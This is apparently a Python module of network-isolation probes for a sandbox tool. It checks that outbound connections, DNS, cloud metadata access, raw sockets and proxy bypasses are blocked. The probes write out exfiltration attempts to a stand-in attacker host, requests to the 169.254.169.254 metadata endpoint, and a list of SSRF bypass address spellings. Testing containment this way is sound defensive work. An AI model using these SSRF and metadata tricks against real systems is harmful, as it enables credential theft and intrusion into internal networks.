"""Network probes (``net.*``): no route, no DNS, the host's loopback, the allowlist
proxy and its transparent side, open mode.
"""

from __future__ import annotations

import json

from corral._policy import Policy
from corral.audit._probe import (
    BOX_PYTHON,
    Context,
    Outcome,
    all_in,
    denied,
    network_allowlist,
    network_closed,
    network_none,
    probe,
)

_NET = network_none
denied(
    "net.tcp_out",
    "outbound TCP fails",
    "exfiltration over TCP",
    "empty network namespace",
    "s = socket.socket(); s.settimeout(3)\n"
    "attempt('tcp', lambda: s.connect(('93.184.215.14', 80)))",
    expect=("ENETUNREACH",),
    applies=_NET,
)
denied(
    "net.udp_out",
    "outbound UDP fails",
    "exfiltration over UDP",
    "empty network namespace",
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "attempt('udp', lambda: s.sendto(b'x', ('8.8.8.8', 53)))",
    expect=("ENETUNREACH",),
    applies=_NET,
)
denied(
    "net.icmp",
    "ICMP out fails",
    "exfiltration or scanning with ping",
    "empty network namespace; no CAP_NET_RAW",
    "attempt('icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)"
    ".sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('1.1.1.1', 0)))",
    expect=("ENETUNREACH", "EACCES", "EPERM"),
    applies=network_closed,
)
denied(
    "net.ipv6_out",
    "outbound IPv6 fails",
    "exfiltration over IPv6",
    "empty network namespace",
    "s = socket.socket(socket.AF_INET6); s.settimeout(3)\n"
    "attempt('tcp6', lambda: s.connect(('2606:4700:4700::1111', 443)))",
    expect=("ENETUNREACH", "EADDRNOTAVAIL"),
    applies=_NET,
)
denied(
    "net.dns",
    "name resolution fails",
    "exfiltration through DNS queries",
    "no resolver, no network",
    "attempt('dns', lambda: socket.getaddrinfo('example.com', 443))",
    expect=("-2", "-3", "gaierror"),
    applies=network_closed,
)
denied(
    "net.metadata",
    "the cloud metadata endpoint is unreachable",
    "stealing cloud credentials from 169.254.169.254",
    "empty network namespace",
    "s = socket.socket(); s.settimeout(3)\n"
    "attempt('metadata', lambda: s.connect(('169.254.169.254', 80)))",
    expect=("ENETUNREACH",),
    applies=_NET,
)
denied(
    "net.raw_sockets",
    "raw and packet sockets fail",
    "sniffing and forging packets",
    "seccomp; no CAP_NET_RAW",
    "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0))\n"
    "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6))",
    expect=("EPERM", "EACCES"),
)
denied(
    "net.vsock",
    "AF_VSOCK fails",
    "talking to the hypervisor or host past the namespace",
    "seccomp",
    "attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM, 0))",
)
denied(
    "net.netlink",
    "netlink beyond NETLINK_ROUTE fails",
    "audit, netfilter and other privileged kernel interfaces",
    "seccomp",
    "attempt('audit', lambda: socket.socket(16, socket.SOCK_RAW, 9))\n"
    "attempt('netfilter', lambda: socket.socket(16, socket.SOCK_RAW, 12))",
)


@probe(
    "net.host_loopback",
    "the host's 127.0.0.1 services are unreachable",
    "reaching databases, Docker or admin APIs bound to the host's loopback",
    "a network namespace with its own loopback",
    applies=network_closed,
)
async def _host_loopback(ctx: Context) -> Outcome:
    seen = await ctx.observe(
        "s = socket.socket(); s.settimeout(3)\n"
        f"attempt('host_service', lambda: s.connect(('127.0.0.1', {ctx.host_service_port})))\n"
        "out['interfaces'] = ','.join(n for _, n in socket.if_nameindex())"
    )
    if seen["interfaces"] != "lo":
        return Outcome("fail", f"interfaces: {seen['interfaces']}")
    return all_in({"host_service": seen["host_service"]}, {"ECONNREFUSED"})


_ASK_PROXY = r"""
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT " + TARGET + b" HTTP/1.1\r\n\r\n")
reply = b""
while chunk := s.recv(4096):
    reply += chunk
out["status"] = reply.split(b"\r\n")[0].decode()
out["body"] = reply.split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip()
"""


@probe(
    "net.proxy_unlisted",
    "the proxy refuses a host the allowlist does not name",
    "exfiltration to an attacker's server through the proxy",
    "the proxy's rules: default deny",
    applies=network_allowlist,
)
async def _proxy_unlisted(ctx: Context) -> Outcome:
    seen = await ctx.observe(_ASK_PROXY.replace("TARGET", "b'attacker.invalid:443'"))
    ok = seen["status"].startswith("HTTP/1.1 403")
    return Outcome("pass" if ok else "fail", seen["status"])


@probe(
    "net.proxy_internal",
    "the proxy refuses internal and metadata addresses",
    "SSRF: reaching 169.254.169.254, the host's loopback or the LAN through the proxy, "
    "also as IPv6 (NAT64, 6to4, IPv4-mapped, site-local)",
    "the proxy resolves and checks every address itself, and what an IPv6 one embeds",
    applies=network_allowlist,
)
async def _proxy_internal(ctx: Context) -> Outcome:
    verdicts = []
    ipv6 = ("64:ff9b::a9fe:a9fe", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::", "fec0::1")
    for target in (
        *("169.254.169.254:80", "2852039166:80", "127.0.0.1:22", "10.0.0.1:80"),
        *(f"[{address}]:80" for address in (*ipv6, "::ffff:169.254.169.254")),
    ):
        seen = await ctx.observe(_ASK_PROXY.replace("TARGET", repr(target.encode())))
        # refused by the guard itself, not merely unreachable
        guarded = "SSRF guard" in seen["body"] or "denied by rule" in seen["body"]
        verdicts.append((target, guarded, seen["body"] or seen["status"]))
    bad = [f"{t}: {why}" for t, guarded, why in verdicts if not guarded]
    done = f"all {len(verdicts)} refused by the SSRF guard (IPv4 and IPv6 spellings)"
    return Outcome("fail" if bad else "pass", "; ".join(bad) or done)


_TRANSPARENT = r"""
import json, socket, sys
out = {}
def attempt(label, fn):
    try:
        out[label] = fn()
    except OSError as exc:
        out[label] = type(exc).__name__ if exc.errno is None else str(exc.errno)
def hard_coded():
    s = socket.create_connection(("127.0.0.2", int(sys.argv[1])), timeout=5)
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    return "closed" if not s.recv(100) else "answered"
attempt("tcp", hard_coded)
attempt("dns", lambda: str(socket.getaddrinfo("attacker.invalid", 443)))
def send(proto, data, port):
    return lambda: str(socket.socket(2, 2, proto).sendto(data, ("127.0.0.2", port)))
attempt("udp", send(0, b"x", 9))
attempt("icmp", send(1, b"\x08" + bytes(7), 0))
print(json.dumps(out))
"""


@probe(
    "net.transparent",
    "a program ignoring the proxy variables is held to the allowlist too",
    "a program that opens its own sockets, hard-codes an address, resolves names "
    "itself or sends UDP/ICMP, going around the proxy",
    "nftables in the box's netns: TCP to the proxy, DNS to corral's responder, the rest rejected",
    applies=network_allowlist,
)
async def _transparent(ctx: Context) -> Outcome:
    code = [BOX_PYTHON, "-c", _TRANSPARENT, str(ctx.host_service_port)]
    async with ctx.sandbox(ctx.policy.with_env({"PATH": "/usr/bin:/bin"}, replace=True)) as sb:
        seen = json.loads((await sb.commands.run(code)).stdout)
        events = await sb.network.events()
    # refused by the proxy's guard (on record), never reached: 127.0.0.2 is the host's loopback
    guarded = any(e.host == "127.0.0.2" and "SSRF guard" in e.reason for e in events)
    dns = any(e.host == "attacker.invalid" and e.port == 53 and not e.allowed for e in events)
    bad = {k: v for k, v in seen.items() if v not in ("104", "closed", "-2", "1", "13")}
    if bad or not guarded or not dns:
        return Outcome("fail", f"{seen}; guarded={guarded} dns_recorded={dns}")
    return Outcome("pass", ", ".join(f"{k}: {v}" for k, v in sorted(seen.items())))


def _open(policy: Policy) -> str | None:
    if policy.network.mode != "open":
        return f"not applicable: network mode {policy.network.mode}"
    return None


@probe(
    "net.open_host_loopback",
    "in open mode, the host's 127.0.0.1 services stay unreachable",
    "reaching databases or admin APIs bound to the host's loopback through the NAT",
    "slirp4netns --disable-host-loopback; the box's own namespace",
    applies=_open,
)
async def _open_loopback(ctx: Context) -> Outcome:
    seen = await ctx.observe(
        "for host in ('10.0.2.2', '127.0.0.1'):\n"
        "    s = socket.socket(); s.settimeout(3)\n"
        f"    attempt(host, lambda: s.connect((host, {ctx.host_service_port})))\n"
        "out['interfaces'] = ','.join(sorted(n for _, n in socket.if_nameindex()))"
    )
    interfaces = seen.pop("interfaces")
    if interfaces != "lo,tap0":
        return Outcome("fail", f"interfaces: {interfaces}")
    return all_in(
        seen, {"ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "EACCES", "EPERM", "TimeoutError"}
    )
